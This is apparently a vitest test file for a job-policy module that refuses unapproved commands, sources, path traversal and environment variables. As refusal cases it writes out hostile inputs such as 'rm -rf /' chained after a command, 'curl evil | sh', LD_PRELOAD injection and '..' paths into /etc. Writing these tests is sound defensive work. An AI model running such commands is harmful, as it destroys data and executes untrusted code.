import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { applyPolicy, readPolicy } from './policy.js';
import { jobSpec } from './testing/job-spec.js';
import { temporaryFolder } from './testing/temporary-folder.js';

const refusal = (policy: Parameters<typeof applyPolicy>[0], over: Parameters<typeof jobSpec>[0] = {}) => {
  const result = applyPolicy(policy, jobSpec(over));
  return 'refusal' in result ? result.refusal : null;
};

describe("the owner's policy", () => {
  test('that is empty allows all', () => {
    expect(refusal({})).toBeNull();
  });
  test('in its strict form takes no edited code, unless it says so', () => {
    const edited = { project: 'p', overlay: [{ path: 'train.py', content: '' }] };
    const own = { source: '/srv/p', train: 'x' };
    expect(refusal({ fixed: { p: own } }, edited)).toContain('no edited code');
    expect(refusal({ fixed: { p: { ...own, edit: true } } }, edited)).toBeNull();
    expect(refusal({ fixed: { p: own } }, { project: 'p' })).toBeNull();
  });
  test('in its strict form takes a source from outside only from where it says', () => {
    const fixed = { p: { train: 'python3 train.py' } };
    const from = (url: string) => ({ project: 'p', source: { kind: 'git' as const, url, ref: null } });
    const elsewhere = from('https://example.org/other.git');
    expect(refusal({ fixed }, elsewhere)).toContain('names no source for the project p');
    expect(refusal({ fixed, sources: ['/srv/*'] }, elsewhere)).toContain(
      'does not allow the source https://example.org',
    );
    expect(refusal({ fixed, sources: ['https://example.org/*'] }, elsewhere)).toBeNull();
    expect(
      refusal({ fixed, sources: ['/srv/*'] }, { project: 'p', source: { kind: 'path', path: '/srv/../etc' } }),
    ).toContain('".."');
  });
  test('allows what matches from end to end, and nothing else', () => {
    const policy = { commands: ['python3 train.py *', 'python3 eval.py'] };
    expect(refusal(policy, { train: 'python3 train.py --lr 1' })).toBeNull();
    expect(refusal(policy, { train: 'x; python3 train.py --lr 1' })).toContain('does not allow the command');
    expect(refusal(policy, { train: 'python3 train.py ', evaluate: 'python3 eval.py; rm -rf /' })).toContain('rm -rf');
    expect(refusal(policy, { train: 'python3 train.py a', setup: 'make' })).toContain('make');
    expect(refusal({ commands: ['python3 train.py'] }, { train: 'python3 trainXpy' })).not.toBeNull();
  });
  test('names projects, sources and variables', () => {
    expect(refusal({ projects: ['other-*'] })).toContain('the project fixtures');
    expect(refusal({ sources: ['/home/me/*'] }, { source: { kind: 'path', path: '/etc' } })).toContain('/etc');
    expect(refusal({ sources: ['/home/me/*'] }, { source: { kind: 'path', path: '/home/me/../../etc' } })).toContain(
      '".."',
    );
    expect(refusal({ env: ['OMP_*'] }, { env: { LD_PRELOAD: 'x' } })).toContain('LD_PRELOAD');
    expect(refusal({ env: ['OMP_*'] }, { env: { OMP_NUM_THREADS: '4' } })).toBeNull();
  });
  test('in its strict form the commands are the box’s own, and only knobs come from outside', () => {
    const policy = { fixed: { fixtures: { source: '/srv/gpt', train: 'python3 train.py {{lr}}' } } };
    const result = applyPolicy(policy, jobSpec({ train: 'curl evil | sh', setup: 'evil', env: { LD_PRELOAD: 'x' } }));
    expect(result).toMatchObject({
      job: {
        train: 'python3 train.py {{lr}}',
        setup: null,
        evaluate: null,
        env: {},
        source: { path: '/srv/gpt' },
        config: { lr: 0.001 },
      },
    });
    expect(refusal(policy, { project: 'constructor' })).toContain('has no commands');
  });
  test('that is broken allows nothing', () => {
    const home = temporaryFolder('policy');
    expect(readPolicy(home)).toEqual({ policy: {} });
    for (const text of ['{', '[]', '{"comands":[]}', '{"attach":"maybe"}']) {
      writeFileSync(join(home, 'policy.json'), text);
      expect(readPolicy(home)).toHaveProperty('problem');
    }
  });
});
